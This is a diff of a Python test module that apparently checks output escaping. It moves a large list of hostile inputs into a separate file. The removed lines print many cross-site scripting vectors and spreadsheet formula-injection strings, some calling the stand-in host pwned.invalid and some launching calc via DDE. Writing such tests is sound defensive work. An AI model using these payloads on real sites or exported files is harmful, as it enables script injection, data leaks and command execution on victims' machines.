@@ -1,101 +1,18 @@
-"""Texts that attack whoever shows or opens them, and a council whose every text field holds them."""
+"""Texts that attack whoever shows or opens them, and a council whose every text field holds them.
+
+payloads.txt has one a line, as in a Python string: first what would run, then, below a blank line,
+what would calculate in a spreadsheet.
+"""
 
 from pathlib import Path
 
 from tests.small_council import write_table
 
 AWAY = "pwned.invalid"
-_RUN = "pwned()"
-SCRIPTS = (
-    f"<script>{_RUN}</script>",
-    f"<ScRiPt >{_RUN}</sCrIpT >",
-    f"</script><script>{_RUN}</script>",
-    f"</title><script>{_RUN}</script>",
-    f"</style><script>{_RUN}</script>",
-    f"</textarea><script>{_RUN}</script>",
-    f"--><script>{_RUN}</script><!--",
-    f"]]><script>{_RUN}</script>",
-    f"<script src=https://{AWAY}/x.js></script>",
-    f"<script src=data:,{_RUN}></script>",
-    f"<script type=module>{_RUN}</script>",
-    f"<scr<script>ipt>{_RUN}</script>",
-    f"<svg><script>{_RUN}</script></svg>",
-    f"<svg><script href=data:,{_RUN} /></svg>",
-    f"<svg onload={_RUN}>",
-    f"<svg/onload={_RUN}//",
-    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
-    f"<svg><set onbegin={_RUN} attributename=x to=1>",
-    f'"><svg onload={_RUN}>',
-    f"'><svg onload={_RUN}>",
-    f"</desc></svg><svg onload={_RUN}>",
-    f"</text><svg onload={_RUN}>",
-    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
-    f"<svg><a href='javascript:{_RUN}'><text y=20>x</text></a></svg>",
-    f"<svg><use href='https://{AWAY}/x.svg#x'/></svg>",
-    f"<svg><image href='https://{AWAY}/x.png'/></svg>",
-    f"<img src=x onerror={_RUN}>",
-    f"<img/src=x/onerror={_RUN}>",
-    f'"><img src=x onerror={_RUN}>',
-    f"'><img src=x onerror={_RUN}>",
-    f"`><img src=x onerror={_RUN}>",
-    f"<img src=`x`onerror={_RUN}>",
-    f"<IMG SRC=x ONERROR={_RUN}>",
-    f"<img src=https://{AWAY}/beacon.gif>",
-    f"<img srcset='https://{AWAY}/b.gif 1x'>",
-    f"&lt;img src=x onerror={_RUN}&gt;",
-    f"&#60;img src=x onerror={_RUN}&#62;",
-    f"\\u003cimg src=x onerror={_RUN}\\u003e",
-    f"<iframe src=javascript:parent.{_RUN}></iframe>",
-    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
-    f"<object data=javascript:{_RUN}></object>",
-    f"<embed src=https://{AWAY}/x.swf>",
-    f"<body onload={_RUN}>",
-    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
-    f"<input autofocus onfocus={_RUN}>",
-    f"<video><source onerror={_RUN}></video>",
-    f"<audio src=x onerror={_RUN}></audio>",
-    f"<marquee onstart={_RUN}>x</marquee>",
-    f"<div onmouseover={_RUN} style=position:fixed;inset:0>x</div>",
-    f'" onmouseover={_RUN} x="',
-    f"' onfocus={_RUN} autofocus x='",
-    f"<a href=javascript:{_RUN}>x</a>",
-    f"<a href=' javascript:{_RUN}'>x</a>",
-    f"<a href=https://{AWAY} ping=https://{AWAY}/ping>x</a>",
-    f"<form action=javascript:{_RUN}><button>x</button></form>",
-    f"<math><mtext></form><form><mglyph><svg><mtext><style>"
-    f"<path id='</style><img src=x onerror={_RUN}>'>",
-    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
-    f"<template><script>{_RUN}</script></template><img src=x onerror={_RUN}>",
-    f"<meta http-equiv=refresh content='0;url=https://{AWAY}/'>",
-    f"<base href=https://{AWAY}/>",
-    f"<link rel=stylesheet href=https://{AWAY}/x.css>",
-    f"<link rel=prefetch href=https://{AWAY}/x>",
-    f"<style>@import'https://{AWAY}/x.css';</style>",
-    f"<style>*{{background:url(https://{AWAY}/x.png)}}</style>",
-    f"<p style='background:url(https://{AWAY}/x.png)'>x</p>",
-    f"[x](javascript:{_RUN})",
-    f"[x](http://{AWAY}/)",
-    f"![x](http://{AWAY}/x.png)",
-    f"<http://{AWAY}/>",
-    f"[x]: javascript:{_RUN}\n[x]",
-    f'![x](x"onerror={_RUN})',
-    f"```html\n<img src=x onerror={_RUN}>\n```",
-    f"{{{{ self.__init__.__globals__ }}}}<img src=x onerror={_RUN}>",
-    f"{{% import 'os' as os %}}<img src=x onerror={_RUN}>",
-    f"${{{_RUN}}}",
-    f"$\\href{{javascript:{_RUN}}}{{x}}$",
-    f"\u2028<img src=x onerror={_RUN}>",
-    f"\u202e<img src=x onerror={_RUN}>",
-    f"<\x0bimg src=x onerror={_RUN}>",
-    f"\x1b]8;;http://{AWAY}\x07x\x1b]8;;\x07",
+SCRIPTS, FORMULAS = (
+    [line.encode().decode("unicode_escape") for line in part.splitlines()]
+    for part in Path(__file__).with_suffix(".txt").read_text(encoding="ascii").split("\n\n")
 )
-FORMULAS = (
-    '=HYPERLINK("http://pwned.invalid","x")', "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)",
-    '=IMPORTXML("http://pwned.invalid","//a")', '=WEBSERVICE("http://pwned.invalid")', "\t=1+1", "\r=1+1",
-    " =1+1", "\u00a0=1+1", "\ufeff=1+1", "'=1+1", "x\r=1+1", 'x"\n=1+1', "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
-    '=DDE("cmd";"/C calc";"x")', "=1+1;2", "=1+1,3", "{=1+1}", "=file://pwned.invalid/x",
-    "-2+3+cmd|' /C calc'!A0", "=A1:A9", "=\u200b1+1",
-)  # fmt: skip
 PAYLOADS = SCRIPTS + FORMULAS
 QUARTER = "2024-25 Q3"
 
